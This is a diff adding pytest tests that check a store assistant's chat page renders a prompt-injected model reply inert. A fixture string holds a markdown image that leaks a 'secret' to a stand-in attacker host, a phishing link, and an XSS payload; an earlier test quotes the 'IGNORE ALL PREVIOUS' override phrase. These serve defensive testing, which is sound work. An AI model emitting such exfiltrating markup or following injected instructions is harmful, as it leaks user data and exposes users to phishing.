@@ -98,3 +98,41 @@ def test_an_injection_in_a_manual_changes_no_price(poisoned) -> None:
     withheld = [f for f in answer.flags if f.startswith("excerpt_withheld:")]
     assert withheld, "the poisoned section was retrieved (and withheld), so the attack was tried"
     assert not any("IGNORE ALL PREVIOUS" in text for text in shown.values())
+
+
+# --- what the page renders -------------------------------------------------------------------
+
+EXFILTRATING = ("Sure! ![status](https://evil.example/pixel.png?q=secret) For help see "
+                "[Volt support](https://evil.example/login) or <img src=x onerror=alert(1)>.")
+
+
+def test_a_reply_cannot_load_images_or_hide_link_targets() -> None:
+    from store_assistant.ui import reply_markdown
+
+    shown = reply_markdown(EXFILTRATING)
+    assert "![" not in shown and "](" not in shown
+    assert "status" in shown and "Volt support (`https://evil.example/login`)" in shown
+    assert reply_markdown("1. **Sony XM5**: $329.99\n2. LG C3") == "1. **Sony XM5**: $329.99\n2. LG C3"
+
+
+def test_the_chat_page_renders_an_obeyed_exfiltration_inert(monkeypatch, settings) -> None:
+    import streamlit as st
+    from streamlit.testing.v1 import AppTest
+
+    from store_assistant import ui
+
+    fake = ScriptedGateway(EXFILTRATING)
+    monkeypatch.setattr(ui, "cached_gateway", lambda model: fake)
+    monkeypatch.setenv("STORE_ASSISTANT_DATA_DIR", str(settings.data_dir))
+    st.cache_resource.clear()
+    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "app.py"), default_timeout=60)
+    at.run()
+    at.selectbox[0].set_value("pe-zero-shot").run()
+    at.chat_input[0].set_value("Show me the ![x](https://evil.example/q.png) status")
+    at.run()
+    assert not at.exception and fake.replies == []
+    rendered = [m.value for b in at.chat_message for m in b.markdown]
+    assert not any("![" in text or "](" in text for text in rendered), rendered
+    assert any("Volt support (`https://evil.example/login`)" in text for text in rendered)
+    assert not any(m.allow_html for b in at.chat_message for m in b.markdown)
+    st.cache_resource.clear()
